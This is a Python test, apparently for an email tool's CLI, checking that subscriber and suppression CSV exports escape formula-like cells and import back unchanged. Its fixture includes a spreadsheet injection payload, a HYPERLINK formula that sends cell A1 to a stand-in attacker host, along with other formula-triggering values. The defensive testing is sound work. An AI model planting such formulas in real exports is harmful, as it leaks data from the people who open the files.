"""Exports are safe to open in a spreadsheet, and import back unchanged (issue 19, item 7).

`=1+1@example.org` is a valid address and a name can be `=HYPERLINK(...)`: written as they are,
Excel, LibreOffice and Google Sheets run them as formulas. Before, `subscribers export` and
`suppressions export` wrote them as they are.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

from support import Conn, senddock, worker_env

PEOPLE = [
    ("=1+1@example.org", '=HYPERLINK("https://evil.example/?"&A1,"click")'),
    ("+plus@example.org", "@SUM(A1:A9)"),
    ("-dash@example.org", "+1 555 0100"),
    ("plain@example.org", "-minus"),
    ("tab@example.org", "\tTabbed"),
    ("quote@example.org", "'already quoted"),
]
FORMULA = ("=", "+", "-", "@", "\t", "\r")


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_exports_write_formula_cells_as_text_and_import_back_unchanged(
    conn: Conn, db_url: str, tmp_path: Path
) -> None:
    env = worker_env(db_url, "smtp://127.0.0.1:1")
    src = tmp_path / "in.csv"
    with src.open("w", newline="") as f:
        w = csv.writer(f)
        w.writerow(["email", "name"])
        w.writerows(PEOPLE)
    done = senddock(env, "subscribers", "import", str(src), "--list", "odd")
    assert done.returncode == 0, done.stderr
    exported = senddock(env, "subscribers", "export", "--list", "odd")
    assert exported.returncode == 0, exported.stderr
    rows = _cells(exported.stdout)
    assert all(not c.startswith(FORMULA) for r in rows for c in r), rows
    by_email = {r[0]: r for r in rows[1:]}
    assert by_email["'=1+1@example.org"][1] == "'" + PEOPLE[0][1]
    # The export imports back as it was: same addresses, same names.
    again = tmp_path / "again.csv"
    again.write_text(exported.stdout)
    back = senddock(env, "subscribers", "import", str(again), "--list", "copy")
    assert back.returncode == 0, back.stderr
    got = conn.execute(
        "SELECT s.email, s.name FROM subscribers s JOIN list_memberships m"
        " ON m.subscriber_id = s.id JOIN lists l ON l.id = m.list_id WHERE l.name = 'copy'"
    ).fetchall()
    assert sorted((r["email"], r["name"]) for r in got) == sorted((e, n.strip()) for e, n in PEOPLE)
    # Suppressions too.
    assert senddock(env, "suppressions", "add", "=1+1@example.org").returncode == 0
    sup = senddock(env, "suppressions", "export")
    assert sup.returncode == 0, sup.stderr
    cells = _cells(sup.stdout)
    assert cells[1][0] == "'=1+1@example.org" and not any(
        c.startswith(FORMULA) for r in cells for c in r
    )
